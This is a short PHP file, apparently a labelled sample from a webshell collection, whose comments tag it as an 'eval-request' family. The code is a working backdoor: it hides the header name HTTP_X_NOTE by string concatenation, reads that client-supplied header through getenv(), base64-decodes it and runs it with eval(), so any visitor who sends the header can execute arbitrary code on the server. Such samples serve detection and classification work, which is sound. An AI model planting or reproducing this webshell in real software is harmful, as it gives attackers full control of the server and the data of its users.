<?php
// Family: webshell/eval-request
// Style: code read from a request header through the environment
// Trait: eval of getenv() of an HTTP_ variable (a header the client sends), the variable name hidden by concatenation
$h = 'HTTP_' . 'X_NOTE';
if (getenv($h)) {
	eval(base64_decode(getenv($h)));
}
